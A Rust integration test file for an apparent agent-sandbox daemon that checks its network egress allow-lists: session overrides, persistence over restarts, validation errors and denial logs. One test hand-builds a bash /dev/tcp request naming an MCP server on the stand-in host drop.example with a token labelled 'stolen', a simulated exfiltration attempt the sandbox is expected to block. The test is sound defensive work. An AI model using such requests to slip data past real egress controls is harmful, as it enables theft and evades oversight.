//! Egress over the API, with the real runtime: what agent, session and operator say of it, changed
//! while the session lives, and kept over restarts.

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;

use serde_json::{Value, json};
use support::http::result;
use support::{Daemon, Model, claude, wait_for};

const PROMPT: &str = "You are a test agent.\n";

/// A server of HTTP at 127.0.0.2, which says `here it is`.
fn server() -> u16 {
    let listener = TcpListener::bind(("127.0.0.2", 0)).expect("a port");
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            // A client that goes away is no failure of the server.
            let _request = stream.read(&mut [0; 4096]);
            let _gone = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nConnection: close\r\n\r\nhere it is");
        }
    });
    port
}

fn start(extra: &str) -> Option<(Model, Daemon)> {
    let claude = claude()?;
    let model = Model::start();
    let daemon = Daemon::start_with(&claude, &model.url, extra);
    Some((model, daemon))
}

fn ask(daemon: &Daemon, session: &str, url: &str) -> String {
    result(&daemon.say(session, &format!("bash: curl -sS {url}")))
}

fn told(daemon: &Daemon, session: &str) -> Vec<Value> {
    let listed = daemon.get(&format!("/api/sessions/{session}/events?type=egress")).json();
    let rows = listed["events"].as_array().unwrap_or_else(|| panic!("{listed}")).clone();
    rows.iter().map(|row| serde_json::from_str(row["data"].as_str().expect("data")).expect("JSON")).collect()
}

#[test]
fn what_may_be_reached_is_the_agents_list_until_the_session_has_its_own_and_stays_so() {
    let port = server();
    let Some((_model, mut daemon)) = start("[egress]\nallow_private = [\"127.0.0.2/32\"]") else { return };
    let (entry, url) = (format!("127.0.0.2:{port}"), format!("http://127.0.0.2:{port}/"));
    daemon.deploy("open", &[("CLAUDE.md", PROMPT), ("ash.toml", &format!("[egress]\nallow = [\"pypi\", \"{entry}\"]\n"))]);
    let session = daemon.create(&json!({"agent": "open"}));
    let path = format!("/api/sessions/{session}/egress");
    let shown = daemon.get(&path).json();
    assert_eq!(shown, json!({"allow": ["pypi", entry], "source": "agent", "operator": ["*:*"]}));
    assert_eq!(ask(&daemon, &session, &url), "result: here it is");
    let allowed = json!({"verdict": "allowed", "host": "127.0.0.2", "port": port, "count": 1});
    wait_for("the log has it", || told(&daemon, &session).contains(&allowed).then_some(()));

    let changed = daemon.send("PATCH", &path, &json!({"allow": ["*.example.com"]}));
    let told_so = |field: &str| changed.json()[field].as_str().map(ToOwned::to_owned).unwrap_or_default();
    assert_eq!((changed.status, told_so("source").as_str()), (200, "session"), "{}", changed.text());
    assert_eq!(told_so("applied"), "now", "{}", changed.text());
    let sentence = format!("Ash: egress to {entry} is not allowed by this agent's policy (allowed: *.example.com)");
    assert!(ask(&daemon, &session, &url).contains(&sentence));
    let denied = json!({"verdict": "denied", "host": "127.0.0.2", "port": port, "count": 1, "reason": sentence});
    wait_for("the log has it", || told(&daemon, &session).contains(&denied).then_some(()));
    let log = daemon.get(&format!("/api/sessions/{session}/events?type=lifecycle")).text();
    assert!(log.contains(r#"\"action\":\"egress\",\"allow\":[\"*.example.com\"]"#), "{log}");

    daemon.kill();
    daemon.run();
    assert!(ask(&daemon, &session, &url).contains(&sentence), "after a restart");
    for verb in ["stop", "resume"] {
        assert_eq!(daemon.send("POST", &format!("/api/sessions/{session}/{verb}"), &json!({})).status, 200);
    }
    assert!(ask(&daemon, &session, &url).contains(&sentence), "in another sandbox");
    // Also while it has no processes.
    assert_eq!(daemon.send("POST", &format!("/api/sessions/{session}/stop"), &json!({})).status, 200);
    let changed = daemon.send("PATCH", &path, &json!({"allow": [entry]}));
    assert_eq!((changed.status, changed.json()["applied"].as_str()), (200, Some("now")), "{}", changed.text());
    assert_eq!(daemon.send("POST", &format!("/api/sessions/{session}/resume"), &json!({})).status, 200);
    assert_eq!(ask(&daemon, &session, &url), "result: here it is");
}

#[test]
fn an_agent_that_says_nothing_reaches_nothing_and_a_session_can_have_more() {
    let port = server();
    let Some((_model, daemon)) = start("[egress]\nallow_private = [\"127.0.0.2/32\"]") else { return };
    let (entry, url) = (format!("127.0.0.2:{port}"), format!("http://127.0.0.2:{port}/"));
    let session = daemon.session();
    assert_eq!(daemon.get(&format!("/api/sessions/{session}/egress")).json()["source"], "default");
    assert!(ask(&daemon, &session, &url).contains("(allowed: nothing)"));
    let session = daemon.create(&json!({"agent": "test", "egress": {"allow": [entry]}}));
    assert_eq!(ask(&daemon, &session, &url), "result: here it is");
    let shown = daemon.get(&format!("/api/sessions/{session}")).json();
    assert_eq!(shown["session"]["config"]["egress"]["allow"], json!([entry]));
}

#[test]
fn a_list_that_can_not_be_is_refused_by_entry_and_reason() {
    let Some((_model, daemon)) = start("[egress]\nallow = [\"pypi\", \"*.example.com\", \"10.0.0.1\"]") else { return };
    let session = daemon.session();
    let path = format!("/api/sessions/{session}/egress");
    for (allow, field, reason) in [
        (json!(["pypi", "https://x.org"]), "allow[1]", "write the host alone"),
        (json!(["npm"]), "allow[0]", "npm is beyond what the operator of this host allows (pypi, *.example.com, 10.0.0.1)"),
        (json!(["*"]), "allow[0]", "beyond what the operator"),
        (json!(["10.0.0.1"]), "allow[0]", "10.0.0.1 is a private address"),
        (json!("pypi"), "allow", "invalid type"),
        (json!(vec!["pypi"; 101]), "allow", "has 101 entries"),
    ] {
        for (method, path, body, field) in [
            ("PATCH", path.as_str(), json!({"allow": allow}), field.to_owned()),
            ("POST", "/api/sessions", json!({"agent": "test", "egress": {"allow": allow}}), format!("egress.{field}")),
        ] {
            let answer = daemon.send(method, path, &body);
            let details = &answer.json()["details"][0];
            assert_eq!((answer.status, details["field"].as_str()), (400, Some(field.as_str())), "{body}: {}", answer.text());
            assert!(details["reason"].as_str().is_some_and(|said| said.contains(reason)), "{body}: {}", answer.text());
        }
    }
    for body in [json!({}), json!({"allow": [], "deny": []})] {
        assert_eq!(daemon.send("PATCH", &path, &body).status, 400, "{body}");
    }
    let answer = daemon.send("PATCH", &format!("/api/sessions/{session}/config"), &json!({"egress": {"allow": []}}));
    assert_eq!((answer.status, answer.json()["details"][0]["field"].as_str()), (400, Some("egress")), "{}", answer.text());
    assert_eq!(daemon.get(&path).json()["source"], "default", "nothing was changed");
}

#[test]
fn what_may_not_be_reached_is_not_fetched_by_the_model_api_either() {
    let Some((_model, daemon)) = start("") else { return };
    daemon.deploy("closed", &[("CLAUDE.md", PROMPT)]);
    let session = daemon.create(&json!({"agent": "closed"}));
    daemon.say(&session, "hello");
    let call = |body: &str| {
        let command = format!(
            r#"bash -c 'exec 3<>/dev/tcp/127.0.0.1/4000
b='"'"'{body}'"'"'
printf "POST /v1/messages HTTP/1.1\r\nhost: x\r\nanthropic-beta: mcp-client-2025-11-20\r\nconnection: close\r\ncontent-length: %s\r\n\r\n%s" ${{#b}} "$b" >&3
cat <&3'"#
        );
        let called = daemon.send("POST", &format!("/api/sessions/{session}/exec"), &json!({"command": command})).json();
        called["stdout"].as_str().unwrap_or_else(|| panic!("{called}")).to_owned()
    };
    // Nor for a caller, who is told at once, before the conversation has it.
    let picture = json!([{"type": "image", "source": {"type": "url", "url": "https://drop.example/a.png"}}, {"type": "text", "text": "say: seen"}]);
    let path = format!("/api/sessions/{session}/messages");
    let refused = daemon.send("POST", &path, &json!({"content": picture}));
    assert_eq!((refused.status, &refused.json()["details"][0]["field"]), (400, &json!("content[0]")), "{}", refused.text());
    assert!(
        refused.text().contains("Ash: egress to drop.example:443 is not allowed by this agent's policy (allowed: nothing)"),
        "{}",
        refused.text()
    );
    let ask = r#""model":"claude-opus-5-5","max_tokens":99,"messages":[{"role":"user","content":"usage: 10 20"}]"#;
    let server = r#""mcp_servers":[{"type":"url","name":"s","url":"https://drop.example/x","authorization_token":"stolen"}]"#;
    let said = call(&format!("{{{ask},{server}}}"));
    let why = "Ash: egress to drop.example:443 is not allowed by this agent's policy (allowed: nothing)";
    assert!(said.starts_with("HTTP/1.1 400") && said.contains("invalid_request_error") && said.contains(why), "{said}");
    let denied = json!({"verdict": "denied", "host": "drop.example", "port": 443, "count": 1, "reason": why});
    wait_for("the log has it", || told(&daemon, &session).contains(&denied).then_some(()));

    let path = format!("/api/sessions/{session}/egress");
    assert_eq!(daemon.send("PATCH", &path, &json!({"allow": ["drop.example"]})).status, 200);
    let said = call(&format!("{{{ask},{server}}}"));
    assert!(said.starts_with("HTTP/1.1 200") && said.contains("usage set to 10 in"), "{said}");
    let allowed = json!({"verdict": "allowed", "host": "drop.example", "port": 443, "count": 1});
    wait_for("the log has that, too", || told(&daemon, &session).contains(&allowed).then_some(()));
    assert_eq!(result(&daemon.turn(&session, &json!({"content": picture}))), "seen");
}
